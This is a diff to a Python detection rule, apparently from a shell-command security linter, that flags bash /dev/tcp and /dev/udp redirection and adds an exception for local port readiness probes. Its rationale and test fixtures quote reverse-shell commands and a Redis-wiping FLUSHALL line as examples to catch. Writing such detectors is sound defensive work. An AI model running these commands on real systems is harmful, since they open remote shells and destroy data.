@@ -22,15 +22,53 @@ from ._rule import Hit, Inspects, rule
 # back: a shell piped into one is a relay (openssl only as `s_client`).
 _SOCKET_CLIENTS = NETCATS | {"socat", "telnet", "cryptcat", "openssl"}
 _SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+
+
+def _loopback(host: str) -> bool:
+    """`localhost`, `::1` or an address of 127.0.0.0/8, written out whole."""
+    if host in ("localhost", "::1"):
+        return True
+    octets = host.split(".")
+    return (
+        len(octets) == 4
+        and octets[0] == "127"
+        and all(octet.isascii() and octet.isdigit() and int(octet) < 256 for octet in octets)
+    )
+
+
+def _readiness_probe(subject: RedirectSubject, path: str) -> bool:
+    """`</dev/tcp/localhost/5432`, `echo > /dev/tcp/127.0.0.1/6379`: a TCP connection to this
+    machine that nothing reads from and nothing but an empty line is sent through, the way a
+    script waits for a local server. Not `exec 3<>...` (the descriptor stays open for what
+    follows, and every program started after it inherits it) nor a compound command's redirect."""
+    segments = path.split("/")
+    if len(segments) != 5 or segments[2] != "tcp" or not segments[4].isdigit() or not _loopback(segments[3]):
+        return False
+    words = subject.command_words
+    if words is None:
+        return False
+    if not words:
+        return True  # redirects alone: bash opens the connection and closes it
+    name = subject.command_name
+    return name in (":", "true") or (name == "echo" and all(arg.value == "" for arg in words[1:]))
 
 
 @rule(
     id="NE001",
     name="dev-tcp-redirection",
     severity=Severity.HIGH,
-    summary="Opens a network connection through bash's /dev/tcp or /dev/udp redirection.",
-    rationale="`bash -i >& /dev/tcp/host/port 0>&1` is the canonical reverse shell; it needs no network tool at all.",
-    safer_alternative="Use curl or a client library for network access, so the request is visible.",
+    summary=(
+        "Opens a network connection through bash's /dev/tcp or /dev/udp redirection, "
+        "other than a probe of a local port that sends nothing."
+    ),
+    rationale=(
+        "`bash -i >& /dev/tcp/host/port 0>&1` is the canonical reverse shell; it needs no network tool at all. "
+        "A shell on a local socket is a backdoor for any local process, and data sent to a local service "
+        "(`echo FLUSHALL > /dev/tcp/localhost/6379`) acts on it; only `</dev/tcp/localhost/5432` or "
+        "`echo > /dev/tcp/127.0.0.1/6379`, which wait for a server, are let through."
+    ),
+    safer_alternative="Use curl or a client library for network access, so the request is visible; `nc -z` to probe a port.",
     inspects=Inspects.REDIRECT,
     must_match=(
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -38,18 +76,27 @@ _SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
         "cat < /dev/udp/10.0.0.1/53",
         "echo x > /dev/tcp/h/9",
         'echo data > "/dev/tcp/$HOST/80"',
+        "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
+        "echo FLUSHALL > /dev/tcp/localhost/6379",
+        "exec 3<>/dev/tcp/127.0.0.1/6379",
     ),
-    must_not_match=("ls /dev", "echo '/dev/tcp is a bash feature'", "echo x > dev/tcp.txt", 'echo x > "$DEV/tcp"'),
+    must_not_match=(
+        "ls /dev",
+        "echo '/dev/tcp is a bash feature'",
+        "echo x > dev/tcp.txt",
+        'echo x > "$DEV/tcp"',
+        "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open",
+        "until (echo > /dev/tcp/127.0.0.1/6379) 2>/dev/null; do sleep 1; done",
+    ),
 )
 def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
     target = subject.target
     if target is None:
         return
     # The host may be a variable (`/dev/tcp/$HOST/80`); the literal prefix decides.
-    for value in target.values or (literal_prefix(target),):
-        if value.startswith(("/dev/tcp/", "/dev/udp/")):
-            yield Hit(subject.span, f"network connection through `{target.display()}`")
-            return
+    sockets = [value for value in target.values or (literal_prefix(target),) if value.startswith(_SOCKET_PATHS)]
+    if sockets and not (target.values and all(_readiness_probe(subject, socket) for socket in sockets)):
+        yield Hit(subject.span, f"network connection through `{target.display()}`")
 
 
 @rule(
